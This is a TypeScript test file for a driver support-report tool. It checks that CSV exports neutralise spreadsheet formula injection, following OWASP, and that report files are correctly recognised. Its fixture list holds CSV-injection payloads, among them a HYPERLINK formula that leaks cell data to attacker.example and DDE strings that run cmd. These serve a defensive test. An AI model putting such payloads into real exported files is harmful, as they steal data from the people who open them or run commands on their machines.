import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { driverEntry } from './driverEntry';
import { parse } from 'csv-parse/sync';
import type { DriverEntry } from '../../app/drivers';
import type { SupportReport } from '../../app/supportReport';
import { reportFormats } from '../../app/supportReport';
import { formatReport, isReportOpening } from '../../main/reports/reportFormats';

const driver = (alias: string, extra: Partial<DriverEntry> = {}): DriverEntry => driverEntry(alias, 'acm', extra);

function report(drivers: DriverEntry[]): SupportReport {
  return { generatedAt: '2026-12-08T10:00:00.000Z', machine: { name: 'PC', windows: 'Windows 10' }, drivers, restarts: [], notices: [] };
}

function csvRows(drivers: DriverEntry[]): Array<Record<string, string>> {
  return parse(formatReport(report(drivers), 'csv'), { columns: true });
}

/** What OWASP lists as the start of a formula, and the full-width forms spreadsheets also take for them. */
const formulas = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
];

describe('CSV reports', () => {
  it('starts no cell with a formula: each one a driver or the registry could set gets a single quote first, as OWASP recommends', () => {
    const rows = csvRows(formulas.map((text, i) => driver(text, { id: `id${i}`, file: text, parameters: text, statusDetail: text })));
    assert.equal(rows.length, formulas.length);
    for (const [i, text] of formulas.entries()) {
      const row = rows[i] ?? {};
      for (const field of ['alias', 'file', 'parameters', 'status detail']) assert.equal(row[field], `'${text}`, `${field} of ${JSON.stringify(text)}`);
    }
  });

  it('leaves a number a number, such as a driver\'s answer of -1, and plain text as it is', () => {
    const probe = { alias: 'vidc.cvid', raw: '-1', configurable: true, loadedPath: 'C:\\windows\\system32\\iccvid.dll', durationMs: 1.5, at: '2026-12-08T10:00:00.000Z' };
    const rows = csvRows([driver('vidc.cvid', { probe, parameters: 'a-b =c' }), driver('007', { id: 'zeros', parameters: '-0' })]);
    const [row, zeros] = [rows[0] ?? {}, rows[1] ?? {}];
    assert.equal(row.DRV_QUERYCONFIGURE, '-1');
    assert.equal(row['loaded from'], 'C:\\windows\\system32\\iccvid.dll');
    assert.equal(row.parameters, 'a-b =c');
    assert.equal(row.alias, 'vidc.cvid');
    assert.deepEqual([zeros.alias, zeros.parameters], ['007', "'-0"], 'text that only looks like a number is not rewritten as one');
  });
});

describe('telling a report from any other file', () => {
  const head = (text: string): string => text.slice(0, 512);

  it('knows each format as formatReport writes it, with drivers or without', () => {
    for (const format of reportFormats) {
      assert.ok(isReportOpening(head(formatReport(report([]), format))), `${format}, empty`);
      assert.ok(isReportOpening(head(formatReport(report([driver('=1+1'), driver('<b>x</b>')]), format))), `${format}, with drivers`);
    }
  });

  it('takes nothing else for one: a driver DLL, text, other JSON, CSV and HTML', () => {
    const others = [
      'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode.',
      'notes a person kept\r\n',
      '{ "name": "drivers-panel", "generatedAt": "2026" }',
      '[{"generatedAt":"x","machine":{}}]',
      'name,kind,view,status\r\n',
      '<!doctype html>\n<html lang="en"><head><title>Multimedia drivers</title>',
    ];
    for (const text of others) assert.equal(isReportOpening(text), false, JSON.stringify(text));
  });
});

